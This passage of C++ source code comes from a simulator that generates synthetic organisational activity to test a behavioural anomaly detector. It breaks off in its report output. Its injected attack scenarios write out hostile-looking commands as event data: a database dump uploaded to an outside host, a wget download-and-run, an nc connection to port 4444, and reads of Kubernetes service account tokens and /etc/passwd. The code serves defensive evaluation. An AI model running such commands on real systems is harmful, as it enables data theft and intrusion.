// orgsim: a synthetic organisation for evaluating the behavioural baselines (src/ueba).
//
// Users, roles, clusters and hosts; daily and weekly rhythms, on-call nights, new hires, role
// changes, software rollouts and gradual drift; six labelled attack scenarios injected at
// random times. Every event goes through ueba::Engine::process() exactly as the agent calls
// it. Reports false positives per benign user-day and per benign event after 7, 30 and 180
// days of learning, recall and detection delay per scenario, memory per 1,000 entities and
// events/s through the model. bench/eval/run.sh runs it; bench/RESULTS.md has the numbers.
#include <arpa/inet.h>
#include <sys/socket.h>

#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <map>
#include <memory>
#include <random>
#include <set>
#include <string>
#include <unordered_map>
#include <vector>

#include "config/config.hpp"
#include "model/event.hpp"
#include "ueba/engine.hpp"

using namespace privwatch;

namespace {

constexpr uint64_t kSec = 1'000'000'000ull;
constexpr uint64_t kHour = 3600 * kSec;
constexpr uint64_t kDay = 24 * kHour;
// 2026-01-05 00:00 UTC, a Monday.
constexpr uint64_t kEpoch = 1767571200ull * kSec;

struct Tool {
  std::string path;
  std::vector<std::string> arg_shapes;  // a few argument patterns
  double weight;
};

struct RoleProfile {
  std::string name;
  std::vector<std::string> clusters;
  std::vector<Tool> tools;
  std::vector<std::string> file_areas;                  // paths read (or written with "w:" prefix)
  std::vector<std::pair<std::string, uint16_t>> dests;  // ip, port
  bool service = false;
  int start_hour = 8;  // typical start of the day
};

struct Cluster {
  std::string name;
  std::vector<std::string> hosts;
};

struct User {
  std::string name;
  int role = 0;
  int prev_role = -1;  // before a role change
  int role_change_day = -1;
  int join_day = 0;
  int start_hour = 8;
  std::vector<double> tool_weights;  // over the role's tools (+ personal)
  std::vector<Tool> personal;
  std::vector<std::string> hosts;
  std::string source_prefix;  // VPN /24 the user logs in from
  double activity = 1.0;
};

struct Scenario {
  int type;  // 1..6
  int day;
  int user;
  uint64_t first_ns = 0;
  uint64_t detected_ns = 0;
  int events = 0;
  int detected_after_events = -1;
};

const char* kScenarioNames[] = {"",
                                "exfiltration script after psql work (dba)",
                                "2 AM download-and-run into /usr/local/bin (sysadmin)",
                                "dba runs nc from an app server to outside at 23:00",
                                "service account opens a shell and reads mounted secrets",
                                "deploy agent installs packages on observe-only nodes",
                                "stolen credential used from a new host"};

struct Options {
  int users = 200;
  int days = 210;
  uint64_t seed = 42;
  int scenarios_per_type = 10;
  bool quiet = false;
  double min_recall = -1;  // exit 1 below this (smoke test)
};

class Org {
 public:
  explicit Org(const Options& o) : opt_(o), rng_(o.seed) { build(); }

  std::vector<Cluster> clusters;
  std::vector<RoleProfile> roles;
  std::vector<User> users;

  int cluster_of_host(const std::string& h) const {
    for (size_t c = 0; c < clusters.size(); ++c) {
      for (const auto& x : clusters[c].hosts) {
        if (x == h) return static_cast<int>(c);
      }
    }
    return 0;
  }
  std::mt19937_64& rng() { return rng_; }
  double uni() { return std::uniform_real_distribution<double>(0, 1)(rng_); }
  int pick(int n) { return std::uniform_int_distribution<int>(0, n - 1)(rng_); }

 private:
  void build() {
    auto hosts = [](const std::string& p, int n) {
      std::vector<std::string> v;
      for (int i = 1; i <= n; ++i) v.push_back(p + "-" + std::to_string(i));
      return v;
    };
    clusters = {{"db-servers", hosts("db", 6)},
                {"app-servers", hosts("app", 12)},
                {"build", hosts("build", 4)},
                {"k8s-nodes", hosts("node", 16)},
                {"bastion", hosts("bastion", 2)}};
    auto T = [](std::string p, std::vector<std::string> a, double w) {
      return Tool{std::move(p), std::move(a), w};
    };
    const std::vector<Tool> common = {
        T("/usr/bin/ls", {"", "-la", "-l /var/log"}, 30),
        T("/usr/bin/cat", {"/etc/hosts", "/var/log/syslog"}, 15),
        T("/usr/bin/grep", {"-r error /var/log", "-i foo"}, 12),
        T("/usr/bin/less", {"/var/log/syslog"}, 6),
        T("/usr/bin/vim", {"/etc/hosts", "notes.txt"}, 6),
        T("/usr/bin/ps", {"aux", "-ef"}, 8),
        T("/usr/bin/top", {""}, 4),
        T("/usr/bin/df", {"-h"}, 4),
        T("/usr/bin/tail", {"-f /var/log/syslog", "-n 100 /var/log/app.log"}, 8),
        T("/usr/bin/sudo", {"-i", "systemctl status"}, 5)};
    auto with_common = [&](std::vector<Tool> t) {
      t.insert(t.end(), common.begin(), common.end());
      return t;
    };
    roles.push_back(
        {"dba",
         {"db-servers", "bastion"},
         with_common({T("/usr/lib/postgresql/15/bin/psql", {"-U app", "-c select", "-d prod"}, 40),
                      T("/usr/lib/postgresql/15/bin/pg_dump", {"-Fc -f /var/backups/db.dump"}, 4),
                      T("/usr/bin/vacuumdb", {"--analyze"}, 2),
                      T("/usr/bin/systemctl", {"status postgresql", "restart postgresql"}, 5),
                      T("/usr/bin/journalctl", {"-u postgresql"}, 4)}),
         {"/var/lib/postgresql", "/etc/postgresql", "/var/log/postgresql", "w:/var/backups"},
         {{"10.1.0.11", 5432}, {"10.1.0.12", 5432}, {"10.1.0.13", 5432}},
         false,
         8});
    roles.push_back(
        {"sysadmin",
         {"db-servers", "app-servers", "build", "k8s-nodes", "bastion"},
         with_common(
             {T("/usr/bin/systemctl", {"status", "restart nginx", "daemon-reload"}, 20),
              T("/usr/bin/journalctl", {"-xe", "-u nginx"}, 10),
              T("/usr/bin/apt-get", {"update", "upgrade -y", "install -y htop"}, 4),
              T("/usr/bin/curl", {"-s http://10.0.0.5/health", "-I https://deb.debian.org"}, 4),
              T("/usr/sbin/ip", {"a", "r"}, 5), T("/usr/bin/ss", {"-tlnp"}, 5),
              T("/usr/bin/du", {"-sh /var"}, 3), T("/usr/bin/ping", {"-c 3 10.0.0.1"}, 3)}),
         {"w:/etc/nginx", "/etc/systemd", "/var/log/nginx", "w:/etc/apt"},
         {{"10.0.0.5", 80}, {"151.101.2.132", 443}, {"10.0.0.1", 53}},
         false,
         7});
    roles.push_back({"developer",
                     {"app-servers", "build"},
                     with_common({T("/usr/bin/git", {"pull", "status", "log --oneline"}, 25),
                                  T("/usr/bin/make", {"", "-j8", "test"}, 12),
                                  T("/usr/bin/gcc", {"-O2 -c main.c"}, 6),
                                  T("/usr/bin/python3", {"manage.py migrate", "-m pytest"}, 8),
                                  T("/usr/bin/docker", {"ps", "logs app"}, 5),
                                  T("/usr/bin/curl", {"-s http://localhost:8080/health"}, 3)}),
                     {"w:/srv/app", "/etc/app", "w:/home/dev"},
                     {{"10.0.5.10", 443}, {"140.82.112.3", 443}, {"127.0.0.1", 8080}},
                     false,
                     9});
    roles.push_back(
        {"sre",
         {"k8s-nodes", "app-servers", "bastion"},
         with_common({T("/usr/local/bin/kubectl", {"get pods -A", "describe node", "logs -f"}, 30),
                      T("/usr/bin/systemctl", {"status kubelet"}, 6),
                      T("/usr/bin/journalctl", {"-u kubelet"}, 6),
                      T("/usr/bin/curl", {"-sk https://10.2.0.1:6443/healthz"}, 4),
                      T("/usr/bin/crictl", {"ps", "logs"}, 6), T("/usr/bin/ss", {"-tlnp"}, 3)}),
         {"/etc/kubernetes/manifests", "/var/log/pods", "/var/lib/kubelet"},
         {{"10.2.0.1", 6443}, {"10.2.0.2", 6443}},
         false,
         8});
    roles.push_back(
        {"analyst",
         {"db-servers"},
         with_common({T("/usr/lib/postgresql/15/bin/psql", {"-d reports -c select"}, 30),
                      T("/usr/bin/python3", {"report.py", "-m notebook"}, 10)}),
         {"/srv/reports", "w:/home/analyst"},
         {{"10.1.0.11", 5432}},
         false,
         9});
    roles.push_back({"app-service",
                     {"app-servers"},
                     {T("/usr/bin/java", {"-jar /srv/app/app.jar"}, 10),
                      T("/srv/app/bin/healthcheck", {""}, 20),
                      T("/usr/bin/logrotate", {"/etc/logrotate.conf"}, 2)},
                     {"/srv/app", "w:/var/log/app", "/etc/app"},
                     {{"10.1.0.11", 5432}, {"10.0.9.20", 6379}},
                     true,
                     0});
    roles.push_back({"deploy",
                     {"k8s-nodes", "build"},
                     {T("/usr/local/bin/kubectl", {"get pods -A", "get nodes"}, 20),
                      T("/usr/bin/cat", {"/etc/os-release"}, 5), T("/usr/bin/ls", {"/var/log"}, 5),
                      T("/usr/bin/apt-get", {"install -y build-essential"}, 1)},
                     {"/etc/kubernetes", "/var/log"},
                     {{"10.2.0.1", 6443}},
                     true,
                     0});
    // Users: mostly humans, some service accounts.
    const double mix[] = {0.12, 0.12, 0.36, 0.16, 0.08, 0.10, 0.06};
    for (int i = 0; i < opt_.users; ++i) {
      double r = uni(), acc = 0;
      int role = 0;
      for (int k = 0; k < 7; ++k) {
        acc += mix[k];
        if (r < acc) {
          role = k;
          break;
        }
      }
      User u;
      u.role = role;
      u.name = (roles[role].service ? "svc-" : "u") + std::to_string(i) + "-" + roles[role].name;
      u.start_hour = roles[role].start_hour + pick(3) - 1;
      u.activity = 0.5 + uni();
      if (uni() < 0.06) u.join_day = 30 + pick(std::max(1, opt_.days - 60));   // new hires
      if (!roles[role].service && uni() < 0.04 && (role == 2 || role == 1)) {  // role changes
        u.prev_role = role;
        u.role = role == 2 ? 3 : 0;
        u.role_change_day = 40 + pick(std::max(1, opt_.days - 80));
      }
      u.source_prefix = "10.8." + std::to_string(pick(20)) + ".";
      users.push_back(std::move(u));
    }
    for (auto& u : users) assign_hosts(u, u.prev_role >= 0 ? u.prev_role : u.role);
  }

 public:
  void assign_hosts(User& u, int role) {
    u.hosts.clear();
    for (const auto& cn : roles[role].clusters) {
      for (const auto& c : clusters) {
        if (c.name != cn) continue;
        const int n = roles[role].service ? static_cast<int>(c.hosts.size()) : 2 + pick(3);
        for (int k = 0; k < n; ++k) {
          u.hosts.push_back(c.hosts[static_cast<size_t>(pick(static_cast<int>(c.hosts.size())))]);
        }
      }
    }
    std::sort(u.hosts.begin(), u.hosts.end());
    u.hosts.erase(std::unique(u.hosts.begin(), u.hosts.end()), u.hosts.end());
    u.tool_weights.assign(roles[role].tools.size(), 0);
    for (size_t t = 0; t < u.tool_weights.size(); ++t) {
      // Personal taste: some tools unused, the rest reweighted.
      u.tool_weights[t] = (uni() < 0.2 && t > 0) ? 0 : roles[role].tools[t].weight * (0.3 + uni());
    }
  }

 private:
  Options opt_;
  std::mt19937_64 rng_;
};

struct Emitted {
  model::Event ev;
  int scenario = -1;  // index into scenarios, -1 benign
};

class Sim {
 public:
  Sim(const Options& o, ueba::Engine& engine) : opt_(o), org_(o), engine_(engine) {}

  void run();

 private:
  model::Event base(const User& u, const std::string& host, uint64_t t,
                    const std::shared_ptr<model::Session>& s) {
    model::Event ev;
    ev.wall_time_ns = t;
    ev.ts_ns = t - kEpoch + kSec;
    ev.user_name = org_.roles[static_cast<size_t>(u.role)].service ? u.name : "root";
    ev.attr.host = host;
    ev.attr.cluster = org_.clusters[static_cast<size_t>(org_.cluster_of_host(host))].name;
    ev.attr.human = u.name;
    ev.attr.roles = {org_.roles[static_cast<size_t>(u.role)].name};
    if (org_.roles[static_cast<size_t>(u.role)].service) {
      ev.attr.service_account = u.name;
      ev.attr.human.clear();
    }
    ev.attr.session = s;
    return ev;
  }

  void exec(std::vector<Emitted>& out, const User& u, const std::string& host, uint64_t t,
            const std::shared_ptr<model::Session>& s, const std::string& path,
            const std::string& args, const std::string& parent, int scen = -1,
            bool escalated = false) {
    model::Event ev = base(u, host, t, s);
    ev.kind = model::EventKind::kExec;
    model::ExecData x;
    x.exe_path = path;
    x.args.push_back(path.substr(path.rfind('/') + 1));
    size_t p = 0;
    while (p < args.size()) {
      size_t q = args.find(' ', p);
      if (q == std::string::npos) q = args.size();
      if (q > p) x.args.push_back(args.substr(p, q - p));
      p = q + 1;
    }
    ev.data = std::move(x);
    ev.exe = path;
    ev.parent_exe = parent;
    ev.attr.escalated = escalated;
    out.push_back({std::move(ev), scen});
  }

  void file(std::vector<Emitted>& out, const User& u, const std::string& host, uint64_t t,
            const std::shared_ptr<model::Session>& s, const std::string& path, bool write,
            const std::string& exe, int scen = -1) {
    model::Event ev = base(u, host, t, s);
    ev.kind = model::EventKind::kFile;
    model::FileData f;
    f.path = path;
    f.op = model::FileOp::kOpen;
    f.open_flags = write ? 01101 : 0;
    if (write) f.file_flags = model::kFileWrite;
    ev.data = std::move(f);
    ev.exe = exe;
    out.push_back({std::move(ev), scen});
  }

  void connect(std::vector<Emitted>& out, const User& u, const std::string& host, uint64_t t,
               const std::shared_ptr<model::Session>& s, const std::string& ip, uint16_t port,
               const std::string& exe, int scen = -1) {
    model::Event ev = base(u, host, t, s);
    ev.kind = model::EventKind::kNet;
    model::NetData n;
    n.op = model::NetOp::kConnect;
    n.family = AF_INET;
    inet_pton(AF_INET, ip.c_str(), n.remote_addr.data());
    n.remote_port = port;
    ev.data = n;
    ev.exe = exe;
    out.push_back({std::move(ev), scen});
  }

  std::shared_ptr<model::Session> session(const User& u, const std::string& host, uint64_t t,
                                          const std::string& client) {
    auto s = std::make_shared<model::Session>();
    s->id = "s" + std::to_string(++session_ids_);
    s->start_wall_ns = t;
    s->interactive = !org_.roles[static_cast<size_t>(u.role)].service;
    s->client_ip = client;
    s->host = host;
    return s;
  }

  // A working session: tools by weight, file accesses and connections of the role.
  void work_session(std::vector<Emitted>& out, User& u, uint64_t t, int execs, int day) {
    const RoleProfile& r = org_.roles[static_cast<size_t>(u.role)];
    if (u.hosts.empty()) return;
    const std::string& host =
        u.hosts[static_cast<size_t>(org_.pick(static_cast<int>(u.hosts.size())))];
    const std::string client =
        r.service ? "" : u.source_prefix + std::to_string(2 + org_.pick(200));
    auto s = session(u, host, t, client);
    std::discrete_distribution<int> pick_tool(u.tool_weights.begin(), u.tool_weights.end());
    const std::string shell = r.service ? "/usr/bin/java" : "/usr/bin/bash";
    if (!r.service) exec(out, u, host, t, s, "/usr/bin/bash", "", "/usr/sbin/sshd");
    for (int i = 0; i < execs; ++i) {
      t += static_cast<uint64_t>(5 + org_.pick(120)) * kSec;
      const Tool* tool = nullptr;
      // Personal tools and rolled-out tools.
      if (!u.personal.empty() && org_.uni() < 0.08) {
        tool = &u.personal[static_cast<size_t>(org_.pick(static_cast<int>(u.personal.size())))];
      } else {
        const int k = pick_tool(org_.rng());
        tool = &r.tools[static_cast<size_t>(k)];
      }
      std::string path = tool->path;
      if (day >= 100 && path.find("/postgresql/15/") != std::string::npos) {
        path.replace(path.find("/15/"), 4, "/16/");  // version rollout
      }
      const std::string& a = tool->arg_shapes[static_cast<size_t>(
          org_.pick(static_cast<int>(tool->arg_shapes.size())))];
      exec(out, u, host, t, s, path, a, shell);
      if (org_.uni() < 0.7 && !r.file_areas.empty()) {
        std::string area =
            r.file_areas[static_cast<size_t>(org_.pick(static_cast<int>(r.file_areas.size())))];
        const bool w = area.rfind("w:", 0) == 0 && org_.uni() < 0.4;
        if (area.rfind("w:", 0) == 0) area = area.substr(2);
        file(out, u, host, t + kSec, s, area + "/f" + std::to_string(org_.pick(50)), w, path);
      }
      if (org_.uni() < 0.15 && !r.dests.empty()) {
        const auto& d = r.dests[static_cast<size_t>(org_.pick(static_cast<int>(r.dests.size())))];
        connect(out, u, host, t + 2 * kSec, s, d.first, d.second, path);
      }
    }
  }

  void inject(std::vector<Emitted>& out, int si, uint64_t day_start) {
    Scenario& sc = scenarios_[static_cast<size_t>(si)];
    User& u = org_.users[static_cast<size_t>(sc.user)];
    const RoleProfile& r = org_.roles[static_cast<size_t>(u.role)];
    uint64_t t = day_start;
    auto host_in = [&](const std::string& cluster) {
      for (const auto& c : org_.clusters) {
        if (c.name == cluster)
          return c.hosts[static_cast<size_t>(org_.pick(static_cast<int>(c.hosts.size())))];
      }
      return u.hosts.front();
    };
    const std::string client = u.source_prefix + "77";
    switch (sc.type) {
      case 1: {  // exfiltration after psql work
        t += static_cast<uint64_t>(u.start_hour + 2) * kHour;
        const std::string host = u.hosts.front();
        auto s = session(u, host, t, client);
        const std::string psql = "/usr/lib/postgresql/15/bin/psql";
        exec(out, u, host, t, s, "/usr/bin/bash", "", "/usr/sbin/sshd", si);
        for (int i = 0; i < 4; ++i) {
          exec(out, u, host, t + (i + 1) * 60 * kSec, s, psql, "-U app", "/usr/bin/bash", si);
          connect(out, u, host, t + (i + 1) * 60 * kSec + kSec, s, "10.1.0.11", 5432, psql, si);
        }
        t += 6 * 60 * kSec;
        exec(out, u, host, t, s, "/usr/lib/postgresql/15/bin/pg_dump", "-f /tmp/.c/d.sql prod",
             "/usr/bin/bash", si);
        file(out, u, host, t + kSec, s, "/tmp/.c/d.sql", true, "/usr/lib/postgresql/15/bin/pg_dump",
             si);
        exec(out, u, host, t + 30 * kSec, s, "/usr/bin/python3", "/tmp/.c/up.py /tmp/.c/d.sql",
             "/usr/bin/bash", si);
        connect(out, u, host, t + 31 * kSec, s, "198.51.100.23", 443, "/usr/bin/python3", si);
        break;
      }
      case 2: {  // 2 AM download-and-run into /usr/local/bin
        t += 2 * kHour + 10 * 60 * kSec;
        const std::string host = u.hosts.front();
        auto s = session(u, host, t, client);
        exec(out, u, host, t, s, "/usr/bin/bash", "", "/usr/sbin/sshd", si);
        exec(out, u, host, t + 20 * kSec, s, "/usr/bin/wget",
             "-O /usr/local/bin/sysupd https://203.0.113.50/x", "/usr/bin/bash", si, true);
        connect(out, u, host, t + 21 * kSec, s, "203.0.113.50", 443, "/usr/bin/wget", si);
        file(out, u, host, t + 22 * kSec, s, "/usr/local/bin/sysupd", true, "/usr/bin/wget", si);
        exec(out, u, host, t + 40 * kSec, s, "/usr/bin/chmod", "+x /usr/local/bin/sysupd",
             "/usr/bin/bash", si, true);
        exec(out, u, host, t + 50 * kSec, s, "/usr/local/bin/sysupd", "--daemon", "/usr/bin/bash",
             si, true);
        connect(out, u, host, t + 52 * kSec, s, "203.0.113.50", 8443, "/usr/local/bin/sysupd", si);
        break;
      }
      case 3: {  // dba runs nc from an app server at 23:00
        t += 23 * kHour + 4 * 60 * kSec;
        const std::string host = host_in("app-servers");
        auto s = session(u, host, t, client);
        exec(out, u, host, t, s, "/usr/bin/bash", "", "/usr/sbin/sshd", si);
        exec(out, u, host, t + 30 * kSec, s, "/usr/bin/nc", "203.0.113.9 4444", "/usr/bin/bash",
             si);
        connect(out, u, host, t + 31 * kSec, s, "203.0.113.9", 4444, "/usr/bin/nc", si);
        break;
      }
      case 4: {  // service account: shell + mounted secrets
        t += static_cast<uint64_t>(org_.pick(24)) * kHour;
        const std::string host = u.hosts.front();
        auto s = session(u, host, t, "");
        exec(out, u, host, t, s, "/bin/sh",
             "-c cat /var/run/secrets/kubernetes.io/serviceaccount/token", "/usr/bin/java", si);
        exec(out, u, host, t + kSec, s, "/usr/bin/cat",
             "/var/run/secrets/kubernetes.io/serviceaccount/token", "/bin/sh", si);
        file(out, u, host, t + kSec, s, "/var/run/secrets/kubernetes.io/serviceaccount/token",
             false, "/usr/bin/cat", si);
        break;
      }
      case 5: {  // deploy agent installs packages on observe-only nodes
        t += static_cast<uint64_t>(org_.pick(24)) * kHour;
        const std::string host = host_in("k8s-nodes");
        auto s = session(u, host, t, "");
        exec(out, u, host, t, s, "/usr/bin/apt-get", "install -y socat",
             "/usr/local/bin/deploy-agent", si);
        file(out, u, host, t + 5 * kSec, s, "/usr/bin/socat", true, "/usr/bin/dpkg", si);
        exec(out, u, host, t + 4 * kSec, s, "/usr/bin/dpkg", "-i /var/cache/apt/archives/socat.deb",
             "/usr/bin/apt-get", si);
        break;
      }
      case 6: {  // stolen credential from a new host
        t += static_cast<uint64_t>(org_.pick(24)) * kHour;
        // A host of the user's clusters the user never used, entered from a new network.
        std::string host;
        for (int tries = 0; tries < 50 && host.empty(); ++tries) {
          const auto& cn =
              r.clusters[static_cast<size_t>(org_.pick(static_cast<int>(r.clusters.size())))];
          std::string h = host_in(cn);
          if (std::find(u.hosts.begin(), u.hosts.end(), h) == u.hosts.end()) host = h;
        }
        if (host.empty()) host = host_in("bastion");
        auto s = session(u, host, t, "185.220.101." + std::to_string(2 + org_.pick(200)));
        exec(out, u, host, t, s, "/usr/bin/bash", "", "/usr/sbin/sshd", si);
        exec(out, u, host, t + 5 * kSec, s, "/usr/bin/id", "", "/usr/bin/bash", si);
        exec(out, u, host, t + 9 * kSec, s, "/usr/bin/uname", "-a", "/usr/bin/bash", si);
        exec(out, u, host, t + 15 * kSec, s, "/usr/bin/cat", "/etc/passwd", "/usr/bin/bash", si);
        exec(out, u, host, t + 25 * kSec, s, "/usr/bin/sudo", "-l", "/usr/bin/bash", si);
        break;
      }
    }
    sc.first_ns = out.empty() ? t : out.back().ev.wall_time_ns;
  }

  Options opt_;
  Org org_;
  ueba::Engine& engine_;
  std::vector<Scenario> scenarios_;
  uint64_t session_ids_ = 0;

 public:
  double recall_ = 0;
};

struct Window {
  int from, to;  // days [from, to)
  uint64_t alerts = 0, user_days = 0, events = 0;
};

void Sim::run() {
  // Scenario schedule: after 30 days, spread over the run.
  const int first_day = std::min(30, opt_.days / 2);
  const int role_of_type[] = {-1, 0, 1, 0, 5, 6, -2};
  for (int type = 1; type <= 6; ++type) {
    for (int k = 0; k < opt_.scenarios_per_type; ++k) {
      std::vector<int> cands;
      for (size_t i = 0; i < org_.users.size(); ++i) {
        const auto& u = org_.users[i];
        const bool human = !org_.roles[static_cast<size_t>(u.role)].service;
        if (u.join_day != 0 || u.role_change_day >= 0) continue;
        if (role_of_type[type] == -2 ? human : u.role == role_of_type[type])
          cands.push_back(static_cast<int>(i));
      }
      if (cands.empty()) continue;
      Scenario sc{};
      sc.type = type;
      sc.day = first_day + org_.pick(std::max(1, opt_.days - first_day - 1));
      sc.user = cands[static_cast<size_t>(org_.pick(static_cast<int>(cands.size())))];
      scenarios_.push_back(sc);
    }
  }
  std::vector<Window> windows = {{7, 37}, {30, 60}, {180, 210}};
  // Rollouts: a new tool for a role every ~30 days, adopted over two weeks.
  struct RolloutPlan {
    int day, role;
    Tool tool;
  };
  std::vector<RolloutPlan> rollouts;
  const char* new_tools[] = {"vault", "k9s", "pgcli", "terraform", "jq", "yq", "helm", "stern"};
  for (int d = 20, i = 0; d < opt_.days; d += 30, ++i) {
    const int role = org_.pick(5);
    rollouts.push_back(
        {d, role, Tool{std::string("/usr/bin/") + new_tools[i % 8], {"", "status"}, 3}});
  }
  const char* personal_pool[] = {"/usr/bin/htop", "/usr/bin/tmux", "/usr/bin/jq",
                                 "/usr/bin/rg",   "/usr/bin/tree", "/usr/bin/watch",
                                 "/usr/bin/ncdu", "/usr/bin/fzf"};

  uint64_t total_events = 0, alerts_total = 0, benign_alerts = 0;
  uint64_t all_user_days = 0, all_benign_events = 0, benign_alerts_after_7 = 0;
  std::map<std::string, uint64_t> fp_by_rule;
  std::vector<std::string> fp_examples;
  double model_seconds = 0;
  std::vector<Emitted> day_events;
  for (int day = 0; day < opt_.days; ++day) {
    const uint64_t day_start = kEpoch + static_cast<uint64_t>(day) * kDay;
    const int dow = day % 7;  // 0 = Monday
    day_events.clear();
    std::set<int> active;
    // Role changes, rollouts, drift.
    for (auto& u : org_.users) {
      if (u.role_change_day == day) org_.assign_hosts(u, u.role);
      if (day == 0 && u.prev_role >= 0) {
        std::swap(u.role, u.prev_role);  // start in the old role
      }
      if (u.role_change_day == day && u.prev_role >= 0) {
        std::swap(u.role, u.prev_role);
        org_.assign_hosts(u, u.role);
        u.personal.clear();
      }
      if (day % 7 == 0) {
        for (auto& w : u.tool_weights) w *= std::exp(0.15 * (org_.uni() - 0.5));  // drift
      }
      if (org_.uni() < 1.0 / 60 && !org_.roles[static_cast<size_t>(u.role)].service) {
        u.personal.push_back(Tool{personal_pool[org_.pick(8)], {"", "-h"}, 1});
      }
    }
    for (const auto& ro : rollouts) {
      if (day < ro.day || day >= ro.day + 14) continue;
      for (auto& u : org_.users) {
        if (u.role != ro.role || org_.uni() > 1.0 / 7) continue;
        bool has = false;
        for (const auto& p : u.personal) has = has || p.path == ro.tool.path;
        if (!has) u.personal.push_back(ro.tool);
      }
    }
    // On-call: one person per human role per week works nights.
    std::vector<int> oncall(org_.roles.size(), -1);
    for (size_t r = 0; r < org_.roles.size(); ++r) {
      std::vector<int> members;
      for (size_t i = 0; i < org_.users.size(); ++i) {
        if (static_cast<size_t>(org_.users[i].role) == r) members.push_back(static_cast<int>(i));
      }
      if (!members.empty() && !org_.roles[r].service) {
        oncall[r] = members[static_cast<size_t>((day / 7) % static_cast<int>(members.size()))];
      }
    }
    for (size_t i = 0; i < org_.users.size(); ++i) {
      User& u = org_.users[i];
      if (day < u.join_day) continue;
      const RoleProfile& r = org_.roles[static_cast<size_t>(u.role)];
      if (r.service) {
        // Services run around the clock.
        for (int h = 0; h < 24; h += 2 + org_.pick(3)) {
          work_session(day_events, u,
                       day_start + static_cast<uint64_t>(h) * kHour +
                           static_cast<uint64_t>(org_.pick(3600)) * kSec,
                       3 + org_.pick(6), day);
        }
        active.insert(static_cast<int>(i));
        continue;
      }
      const bool weekend = dow >= 5;
      if (weekend && org_.uni() > 0.08) {
        if (oncall[static_cast<size_t>(u.role)] != static_cast<int>(i)) continue;
      }
      if (!weekend && org_.uni() < 0.07) continue;  // leave, sick days
      const int sessions = weekend ? 1 : 1 + org_.pick(3);
      for (int k = 0; k < sessions; ++k) {
        const uint64_t start = day_start + static_cast<uint64_t>(u.start_hour) * kHour +
                               static_cast<uint64_t>(org_.pick(8 * 3600)) * kSec;
        work_session(day_events, u, start, static_cast<int>((10 + org_.pick(40)) * u.activity),
                     day);
      }
      if (oncall[static_cast<size_t>(u.role)] == static_cast<int>(i) && org_.uni() < 0.3) {
        const uint64_t night = day_start + static_cast<uint64_t>(20 + org_.pick(8)) * kHour;
        work_session(day_events, u, night, 5 + org_.pick(20), day);
      }
      active.insert(static_cast<int>(i));
    }
    std::set<int> attacked_today;
    for (size_t si = 0; si < scenarios_.size(); ++si) {
      if (scenarios_[si].day != day) continue;
      const size_t before = day_events.size();
      inject(day_events, static_cast<int>(si), day_start);
      scenarios_[si].first_ns = day_events[before].ev.wall_time_ns;
      scenarios_[si].events = static_cast<int>(day_events.size() - before);
      attacked_today.insert(scenarios_[si].user);
    }
    std::stable_sort(day_events.begin(), day_events.end(), [](const Emitted& a, const Emitted& b) {
      return a.ev.wall_time_ns < b.ev.wall_time_ns;
    });
    std::map<int, int> scen_seen;  // scenario → events processed so far
    std::set<int> alerted_users;
    uint64_t day_alerts = 0, day_benign_events = 0;
    timespec c0{}, c1{};
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c0);  // CPU time: robust to a busy machine
    std::vector<std::pair<size_t, model::Alert>> alerts;
    for (size_t k = 0; k < day_events.size(); ++k) {
      auto& e = day_events[k];
      e.ev.seq = ++total_events;
      if (auto a = engine_.process(e.ev)) alerts.emplace_back(k, std::move(*a));
    }
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c1);
    model_seconds += static_cast<double>(c1.tv_sec - c0.tv_sec) + (c1.tv_nsec - c0.tv_nsec) / 1e9;
    // Scoring (outside the timed loop).
    for (const auto& [k, a] : alerts) {
      const Emitted& e = day_events[k];
      ++alerts_total;
      if (e.scenario >= 0) {
        Scenario& sc = scenarios_[static_cast<size_t>(e.scenario)];
        if (sc.detected_ns == 0) {
          sc.detected_ns = e.ev.wall_time_ns;
          int idx = 0;
          for (size_t j = 0; j <= k; ++j) idx += day_events[j].scenario == e.scenario ? 1 : 0;
          sc.detected_after_events = idx;
        }
      } else {
        ++benign_alerts;
        if (day >= 7) ++benign_alerts_after_7;
        ++day_alerts;
        ++fp_by_rule[a.rule];
        if (fp_examples.size() < 12 && day >= 150)
          fp_examples.push_back(std::getenv("ORGSIM_DETAILS") ? a.details_json : a.explanation);
      }
    }
    for (const auto& e : day_events) day_benign_events += e.scenario < 0 ? 1 : 0;
    if (day >= 7) {
      all_benign_events += day_benign_events;
      for (int uidx : active) all_user_days += attacked_today.count(uidx) ? 0 : 1;
    }
    for (auto& w : windows) {
      if (day < w.from || day >= w.to) continue;
      w.alerts += day_alerts;
      w.events += day_benign_events;
      for (int uidx : active) w.user_days += attacked_today.count(uidx) ? 0 : 1;
    }
    if (!opt_.quiet && day % 30 == 29) {
      std::fprintf(stderr, "day %d: %llu events, %llu alerts (%llu benign)\n", day + 1,
                   static_cast<unsigned long long>(total_events),
                   static_cast<unsigned long long>(alerts_total),
                   static_cast<unsigned long long>(benign_alerts));
    }
  }

  // --- report -----------------------------------------------------------------------------------
  const auto st = engine_.stats();
  const uint64_t entities = st.entities[0] + st.entities[1] + st.entities[2];
  std::printf("{\n  \"users\": %d, \"days\": %d, \"seed\": %llu, \"events\": %llu,\n", opt_.users,
              opt_.days, static_cast<unsigned long long>(opt_.seed),
              static_cast<unsigned long long>(total_events));
  std::printf("  \"events_per_cpu_second_through_model\": %.0f,\n", total_events / model_seconds);
  std::printf("  \"entities\": {\"user\": %llu, \"role\": %llu, \"cluster\": %llu},\n",
              static_cast<unsigned long long>(st.entities[0]),
              static_cast<unsigned long long>(st.entities[1]),
              static_cast<unsigned long long>(st.entities[2]));
  std::printf("  \"memory_bytes\": %zu, \"memory_mb_per_1000_entities\": %.2f,\n", st.memory_bytes,
              entities ? st.memory_bytes / 1048576.0 * 1000.0 / entities : 0.0);
  std::printf(
      "  \"alerts\": %llu, \"benign_alerts\": %llu, \"rollouts_learned\": %llu, "
      "\"duplicates_folded\": %llu,\n",
      static_cast<unsigned long long>(alerts_total), static_cast<unsigned long long>(benign_alerts),
      static_cast<unsigned long long>(st.rollouts), static_cast<unsigned long long>(st.duplicates));
  std::printf(
      "  \"whole_run_after_day_7\": {\"benign_user_days\": %llu, \"benign_events\": %llu, "
      "\"benign_alerts\": %llu, \"per_user_day_pct\": %.4f, \"per_event_pct\": %.6f},\n",
      static_cast<unsigned long long>(all_user_days),
      static_cast<unsigned long long>(all_benign_events),
      static_cast<unsigned long long>(benign_alerts_after_7),
